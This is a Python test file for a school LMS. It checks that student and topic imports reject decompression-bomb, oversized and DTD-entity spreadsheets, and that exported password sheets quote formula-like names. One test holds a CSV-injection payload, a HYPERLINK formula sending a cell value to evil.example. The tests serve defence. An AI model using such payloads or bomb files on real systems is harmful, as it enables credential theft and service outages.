"""Imports are bounded, and exports carry no formulas (issue 7, points 2 and 6).

Hostile files (small on disk, huge or nasty once read) go through the real upload pages of the
student import and the topic import: each answers 422 quickly, with a message that names the
limit it broke. Previews cut long cells short. The first-passwords sheet writes a student named
like a formula as quoted text, never as a formula.
"""

import functools
import io
import time

import pytest
from openpyxl import Workbook, load_workbook

from lms.extensions import db
from lms.schools.models import Topic
from tests import hostile_files as hostile
from tests.web import conftest_admin
from tests.web.conftest_admin import STUDENT_HEADERS, form_post, student_rows, upload, xlsx_bytes

school_admin = conftest_admin.school_admin  # fixtures
district_admin = conftest_admin.district_admin

STUDENT_IMPORT = "/admin/students/import"
TOPIC_IMPORT = "/admin/topics/import"
FAST = 5.0  # seconds: the hostile files are refused long before they are read through

ROWS = "giới hạn số dòng"
COLUMNS = "giới hạn số cột"
CELL = "dài quá giới hạn"
INFLATED = "giới hạn dung lượng khi giải nén"
DTD = "DTD"


TOPIC_HEADERS = ["môn", "khối", "thứ tự", "chương", "bài"]
STUDENT_ROW = ["7900000001", "Nguyễn Văn An", "05/09/2013", "Nam", "6A1", "6"]
TOPIC_ROW = ["Tin học", "6", "1", "Chủ đề 1", "Bài 1"]


# Each builder takes the header row of the import it is sent to, so that today's code gets past
# the header check and meets the file itself.

@functools.cache
def bomb(headers):
    return hostile.shared_string_bomb(300, headers, column=2)  # 300 KB on disk, one 300 MB string


@functools.cache
def million(headers):
    return hostile.million_rows(header=headers)  # 65 KB on disk, a million rows


def long_csv_field(headers):
    row = (STUDENT_ROW if "Họ tên" in headers else TOPIC_ROW)[:]
    row[1] = "x" * 200_000
    return hostile.csv_bytes([headers, row])


def too_many_csv_rows(headers):
    row = STUDENT_ROW if "Họ tên" in headers else TOPIC_ROW
    return hostile.csv_bytes([headers, *[row] * 5001])


def too_many_columns(headers):
    """A genuine list (it is imported or previewed by today's code) with 150 columns."""
    row = STUDENT_ROW if "Họ tên" in headers else TOPIC_ROW
    extra = 150 - len(headers)
    workbook = Workbook()
    workbook.active.append(list(headers) + [f"Cột thêm {n}" for n in range(extra)])
    workbook.active.append(row + ["x"] * extra)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def dtd_in_sheet(headers):
    return hostile.dtd_entity_xlsx("sheet")


def dtd_in_shared_strings(headers):
    return hostile.dtd_entity_xlsx("shared")


HOSTILE = {
    "shared-string bomb": (bomb, "danh-sach.xlsx", INFLATED, "50 MB"),
    "million rows": (million, "danh-sach.xlsx", ROWS, "5000"),
    "long CSV field": (long_csv_field, "danh-sach.csv", CELL, "1000"),
    "too many CSV rows": (too_many_csv_rows, "danh-sach.csv", ROWS, "5000"),
    "too many columns": (too_many_columns, "danh-sach.xlsx", COLUMNS, "100"),
    "DTD entity in the sheet": (dtd_in_sheet, "danh-sach.xlsx", DTD, "DOCTYPE"),
    "DTD entity in the shared strings": (dtd_in_shared_strings, "danh-sach.xlsx", DTD, "DOCTYPE"),
}


def timed_upload(client, url, data, filename):
    started = time.perf_counter()
    response = upload(client, url, data, filename)
    return response, time.perf_counter() - started


@pytest.mark.parametrize("case", list(HOSTILE))
def test_student_import_refuses_hostile_files_quickly_naming_the_limit(app, school_admin, case):
    build, filename, limit, value = HOSTILE[case]
    response, elapsed = timed_upload(school_admin, STUDENT_IMPORT, build(tuple(STUDENT_HEADERS[1:7])), filename)
    html = response.get_data(as_text=True)
    assert response.status_code == 422, html[-1500:]
    message = html.split('id="import-error"', 1)[1].split("</div>", 1)[0]
    assert limit in message and value in message, message
    assert elapsed < FAST, elapsed
    assert 'name="token"' not in html  # nothing to confirm


@pytest.mark.parametrize("case", list(HOSTILE))
def test_topic_import_refuses_hostile_files_quickly_naming_the_limit(app, district_admin, case):
    build, filename, limit, value = HOSTILE[case]
    before = db.session.scalar(db.select(db.func.count(Topic.id)))
    response, elapsed = timed_upload(district_admin, TOPIC_IMPORT, build(tuple(TOPIC_HEADERS)), filename)
    html = response.get_data(as_text=True)
    assert response.status_code == 422, html[-1500:]
    message = html.split('id="import-error"', 1)[1].split("</div>", 1)[0]
    assert limit in message and value in message, message
    assert elapsed < FAST, elapsed
    db.session.expire_all()
    assert db.session.scalar(db.select(db.func.count(Topic.id))) == before


def test_topic_import_of_more_rows_than_the_limit_writes_nothing(app, district_admin):
    """5,001 good topic rows: today they are all imported; past IMPORT_MAX_ROWS none is."""
    rows = [["Tin học", 6, n, f"Chủ đề {n}", f"Bài {n}"] for n in range(1, 5002)]
    data = hostile.csv_bytes([TOPIC_HEADERS, *rows], delimiter=",")
    before = db.session.scalar(db.select(db.func.count(Topic.id)))
    response, elapsed = timed_upload(district_admin, TOPIC_IMPORT, data, "tin-6.csv")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert ROWS in html and "5000" in html and "5002" in html  # the limit, and how far the data goes
    assert elapsed < FAST
    db.session.expire_all()
    assert db.session.scalar(db.select(db.func.count(Topic.id))) == before


def test_topic_import_order_out_of_range_is_a_row_error(app, district_admin):
    data = ("môn,khối,thứ tự,chương,bài\n"
            "Tin học,6,99999999999999999999,Chủ đề 1,Bài 1\n"
            "Tin học,6,²,Chủ đề 1,Bài 2\n"
            f"Tin học,6,3,{'C' * 301},Bài 3\n").encode()
    response = upload(district_admin, TOPIC_IMPORT, data, "tin-6.csv")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "Dòng 2: thứ tự phải là số từ 0 đến 9999" in html
    assert "Dòng 3: thứ tự phải là số từ 0 đến 9999" in html
    assert "Dòng 4: tên chương hoặc bài dài quá 300 ký tự" in html


def test_limits_are_configurable(app, school_admin, tmp_path):
    app.config.update(IMPORT_MAX_ROWS=3, IMPORT_MAX_COLUMNS=7, IMPORT_MAX_CELL_CHARS=40)
    rows = student_rows(*[(f"790000000{n}", "Nguyễn Văn An", "05/09/2013", "Nam", "6A1", 6) for n in range(1, 5)])
    response = upload(school_admin, STUDENT_IMPORT, xlsx_bytes(tmp_path, [r[:7] for r in rows],
                                                               headers=STUDENT_HEADERS[:7]), "a.xlsx")
    html = response.get_data(as_text=True)
    assert response.status_code == 422 and ROWS in html and "tối đa 3 dòng" in html

    # STUDENT_HEADERS has 8 columns ("Dân tộc" last): one too many.
    response = upload(school_admin, STUDENT_IMPORT, xlsx_bytes(tmp_path, rows[:1]), "b.xlsx")
    html = response.get_data(as_text=True)
    assert response.status_code == 422 and COLUMNS in html and "ô H1" in html

    long_name = student_rows(("7900000001", "Nguyễn " * 8, "05/09/2013", "Nam", "6A1", 6))
    response = upload(school_admin, STUDENT_IMPORT,
                      xlsx_bytes(tmp_path, [r[:7] for r in long_name], headers=STUDENT_HEADERS[:7]), "c.xlsx")
    html = response.get_data(as_text=True)
    assert response.status_code == 422 and "Ô C2 dài quá giới hạn: tối đa 40 ký tự một ô." in html


def test_student_preview_cuts_long_cells_short(app, school_admin, tmp_path):
    """A cell under the cell limit but far longer than a preview column is shown cut, with an
    ellipsis, in the table and in the row's error message."""
    name = "Nguyễn Văn " + "Rất " * 40 + "Dài"  # 174 characters
    gender = "Không-rõ-" * 60  # 540 characters, not Nam or Nữ
    rows = student_rows(("7900000001", name, "05/09/2013", gender, "6A1", 6))
    response = upload(school_admin, STUDENT_IMPORT, xlsx_bytes(tmp_path, rows), "danh-sach.xlsx")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert name not in html and gender not in html
    assert name[:59] + "…" in html  # the table and the error list show the name cut at 60
    assert "giới tính &#39;" + gender[:79] + "…&#39; phải là Nam hoặc Nữ" in html


def test_passwords_sheet_writes_formula_like_names_as_quoted_text(app, school_admin, tmp_path):
    """A student named like a formula: in the first-passwords sheet the name is a string
    starting with a single quote, and no cell of the sheet is a formula."""
    evil = '=HYPERLINK("http://evil.example/?p="&D2,"Bấm vào đây")'
    names = [evil, "+1+2", "-3+4", "@SUM(A1:A9)"]
    rows = [[f"790000000{n}", name, "05/09/2013", "Nam", "6A1", "6"] for n, name in enumerate(names, start=1)]
    data = hostile.csv_bytes([STUDENT_HEADERS[1:7], *rows])  # a CSV holds "=..." as text
    page = upload(school_admin, STUDENT_IMPORT, data, "danh-sach.csv")
    html = page.get_data(as_text=True)
    assert page.status_code == 200, html[-1500:]
    token = html.split('name="token"', 1)[1].split('value="', 1)[1].split('"', 1)[0]
    confirmed = form_post(school_admin, "/admin/students/import/confirm", {"token": token})
    assert confirmed.status_code == 302
    sheet = school_admin.get(confirmed.headers["Location"] + "/passwords.xlsx")
    assert sheet.status_code == 200

    cells = [cell for row in load_workbook(io.BytesIO(sheet.data)).active.iter_rows() for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    written = {cell.value for cell in cells if cell.column == 2}
    assert {"'" + name for name in names} <= written, written
    assert all(cell.data_type == "s" for cell in cells if cell.column == 2)
